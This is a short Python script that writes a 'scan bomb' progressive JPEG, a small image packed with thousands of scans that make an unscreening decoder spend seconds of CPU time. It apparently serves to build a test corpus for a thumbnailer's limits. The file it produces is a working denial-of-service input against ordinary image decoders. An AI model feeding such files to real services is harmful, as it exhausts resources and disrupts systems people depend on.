#!/usr/bin/env python3
"""Writes a progressive grey JPEG whose frame is within the thumbnail limits but whose data
holds thousands of scans. Each scan makes a decoder walk every block of the frame again, so
a few bytes per scan cost it milliseconds: a decoder given the file unscreened takes seconds.

usage: jpeg_scan_bomb.py [--scans N] [--width W] [--height H] OUT
OUT may be a folder: the file is then named by the SHA-1 of its bytes, as the corpus is."""
import argparse
import hashlib
import os
import struct


def segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def bomb(scans, width, height):
    out = bytearray(b"\xFF\xD8")
    out += segment(0xDB, bytes([0x00]) + bytes([1] * 64))  # one quantisation table
    out += segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))
    # One Huffman table for DC and one for AC, each a single one-bit code for symbol 0.
    table = bytes([1] + [0] * 15 + [0])
    out += segment(0xC4, bytes([0x00]) + table + bytes([0x10]) + table)
    # The DC scan, then AC scans over the whole band; their data is one byte each.
    out += segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0])) + b"\x00"
    for _ in range(scans - 1):
        out += segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0])) + b"\x00"
    out += b"\xFF\xD9"
    return bytes(out)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--scans", type=int, default=2000)
    p.add_argument("--width", type=int, default=2048)
    p.add_argument("--height", type=int, default=1024)
    p.add_argument("out")
    a = p.parse_args()
    data = bomb(a.scans, a.width, a.height)
    path = a.out
    if os.path.isdir(path):
        path = os.path.join(path, hashlib.sha1(data).hexdigest())
    with open(path, "wb") as f:
        f.write(data)
    print(path, len(data))


if __name__ == "__main__":
    main()
